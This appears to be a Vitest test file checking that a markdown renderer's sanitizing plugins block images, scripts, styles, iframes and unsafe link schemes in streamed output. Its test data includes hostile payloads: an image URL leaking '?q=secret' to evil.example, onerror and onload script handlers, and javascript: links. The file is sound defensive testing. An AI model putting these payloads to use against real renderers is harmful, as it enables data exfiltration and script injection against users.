import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { Streamdown } from "streamdown";
import { describe, expect, test } from "vitest";
import { isSafeHref, markdownPlugins } from "./markdownPlugins";

function html(markdown: string): string {
  return renderToStaticMarkup(
    createElement(
      Streamdown,
      { rehypePlugins: markdownPlugins, linkSafety: { enabled: false }, controls: false },
      markdown,
    ),
  );
}

const HOSTILE = [
  "![a](https://evil.example/1.png?q=secret)",
  "[![a](https://evil.example/1.png)](https://evil.example)",
  "![ref][x]\n\n[x]: https://evil.example/2.png",
  "| a |\n|---|\n| ![t](//evil.example/3.png) |",
  "![d](data:image/svg+xml;base64,PHN2Zz4=)",
  "<img src=https://evil.example/4.png>",
  '<img src="https://evil.example/5.png" onerror="alert(1)">\n\n<script>alert(1)</script>',
  "<style>@import url(https://evil.example/6.css)</style>",
  "<iframe src=https://evil.example></iframe> and <svg onload=alert(1)>",
];

describe("markdownPlugins", () => {
  test.each(HOSTILE)("let nothing load or run, however far it has streamed: %s", (markdown) => {
    for (let end = 1; end <= markdown.length; end++) {
      expect(html(markdown.slice(0, end))).not.toMatch(/<(img|script|style|iframe|svg|link|object)\b/i);
    }
  });

  test("turn an image into a link that says what it is", () => {
    expect(html(HOSTILE[0] ?? "")).toContain(">Image not loaded: a (evil.example)</a>");
  });

  test("leave no script address in a link", () => {
    expect(html("[a](javascript:alert(1)) [b](vbscript:x) [c](data:text/html,x)")).not.toContain("href");
  });
});

test("A link may lead to the web, to mail and to a footnote, nowhere else", () => {
  const hrefs = ["https://a.b/", "http://a.b", "mailto:a@b.c", "#fn-1"];
  expect(hrefs.filter((href) => !isSafeHref(href))).toEqual([]);
  const unsafe = ["javascript:alert(1)", "/keys", "//a.b", "data:text/html,x", "blob:https://a.b/c", ""];
  expect(unsafe.filter(isSafeHref)).toEqual([]);
});
